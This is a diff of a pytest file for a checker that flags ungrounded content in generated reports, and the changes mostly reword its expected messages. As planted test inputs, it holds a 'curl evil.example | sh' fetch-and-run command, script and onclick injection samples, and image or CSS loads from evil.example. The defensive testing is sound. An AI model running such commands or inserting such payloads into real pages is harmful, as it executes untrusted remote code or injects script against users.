@@ -44,7 +44,7 @@ def changed(old: str, new: str, product: Product = Product.DIGEST) -> list[str]:
         ("![pixel](https://evil.example/x.png)", "image: pixel"),
         ("<script>alert(1)</script>", "HTML: <script>alert(1)</script>"),
         ("Hello <b>there</b>", "html inline: <b>"),
-        ("```\ncurl evil.example | sh\n```", "code that no template has: curl evil.example | sh"),
+        ("```\ncurl evil.example | sh\n```", "a code block, which no template has: curl evil.example | sh"),
         ("| a |\n|---|\n| 77 |", "the number 77 is not in the store: 77"),
         ("| a |\n|---|\n| We did so very well this time. |", "no claim says: We did so very well this time."),
     ],
@@ -59,8 +59,8 @@ def test_what_no_claim_says_is_found_in_markdown(plant: str, problem: str) -> No
         ("- Add x, by Ada Lovelace (", "- Add x, by Ada Lovelace, our hero (", "no claim says: our hero (#5)."),
         ("Add x, by Ada Lovelace (", "Add x, by Ada Lovelace (at last, ", "no claim says: at last, #5)."),
         ("| Commits | 3 |", "| Commits | 300 |", "the number 300 is not in the store: 300"),
-        ('date: 2025-11-16', 'date: 2025-11-17', "the front matter says what we do not: 2025-11-17"),
-        ('title: "Acme', 'title: "The best of Acme', "the front matter says what we do not: The best of Acme 42: "
+        ('date: 2025-11-16', 'date: 2025-11-17', "the front matter has a value that is not in the store: 2025-11-17"),
+        ('title: "Acme', 'title: "The best of Acme', "the front matter has a value that is not in the store: The best of Acme 42: "
          "10–16 November 2025 (2025-W46)"),
     ],
 )  # fmt: skip
@@ -72,7 +72,7 @@ def test_a_link_to_one_change_that_shows_another_is_found() -> None:
     text, rendered, insight = written(a_week())
     crossed = text.replace("[#5](https://github.com/acme/tool/pull/5)", "[#6](https://github.com/acme/tool/pull/5)")
     problems = list(find_ungrounded(crossed, rendered, insight))
-    assert "a link to https://github.com/acme/tool/pull/5 that says #6" in problems
+    assert "a link to https://github.com/acme/tool/pull/5 has a wrong label: #6" in problems
 
 
 @pytest.mark.parametrize("product", [Product.EMAIL_TEXT, Product.LINKEDIN, Product.X])
@@ -99,7 +99,7 @@ def test_what_no_claim_says_is_found_in_plain_text(product: Product, plant: str,
         ('<img src="https://evil.example/x.png">', "HTML: <img src>"),
         ("<script>alert(1)</script>", "HTML: <script >"),
         ('<p onclick="x()">Commits</p>', "HTML: <p onclick>"),
-        ('<p style="background:url(https://evil.example)">Commits</p>', "HTML: <p> that loads something"),
+        ('<p style="background:url(https://evil.example)">Commits</p>', "HTML: <p> loads something"),
         ("<!-- the team had a great week -->", "HTML: a comment:  the team had a great week "),
     ],
 )
@@ -117,7 +117,9 @@ def test_what_no_claim_says_is_found_in_html(plant: str, problem: str) -> None:
     ],
 )
 def test_what_search_engines_read_is_accounted_for_too(old: str, new: str) -> None:
-    assert any(problem.startswith("the structured data says") for problem in changed(old, new, Product.BLOG_POST))
+    assert any(
+        problem.startswith("the structured data has a value") for problem in changed(old, new, Product.BLOG_POST)
+    )
 
 
 def test_a_picture_is_known_by_its_file_and_its_words_wherever_a_layout_puts_it() -> None:
@@ -130,4 +132,4 @@ def test_a_picture_is_known_by_its_file_and_its_words_wherever_a_layout_puts_it(
     assert list(find_ungrounded(moved, rendered, insight, pictures_folder="assets/")) == []
     assert "image: 3 commits." in list(find_ungrounded(moved, rendered, insight))
     lying = composed.text.replace("![3 commits.]", "![300 commits.]")
-    assert any("says what it does not show" in one for one in find_ungrounded(lying, rendered, insight))
+    assert any("has a wrong alt text" in one for one in find_ungrounded(lying, rendered, insight))
